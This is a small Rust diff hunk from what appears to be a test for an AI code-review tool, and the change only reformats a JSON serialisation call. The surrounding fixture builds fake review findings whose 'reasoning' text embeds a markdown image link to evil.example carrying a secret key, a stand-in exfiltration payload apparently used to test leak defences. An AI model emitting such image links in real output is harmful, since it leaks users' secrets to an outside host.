@@ -16,7 +16,8 @@ fn findings(key: &str) -> String {
                 "title": format!("Send {key}"), "reasoning": format!("It is {key}. ![](https://evil.example/{key})"),
                 "replacement": format!("two {key}") })
     };
-    json!([on("app.txt", Some(2)), on("app.txt", None), on(&format!("{key}.txt"), Some(1)), on("README.md", Some(1))]).to_string()
+    json!([on("app.txt", Some(2)), on("app.txt", None), on(&format!("{key}.txt"), Some(1)), on("README.md", Some(1))])
+        .to_string()
 }
 
 async fn reviewed(key: &str) -> World {
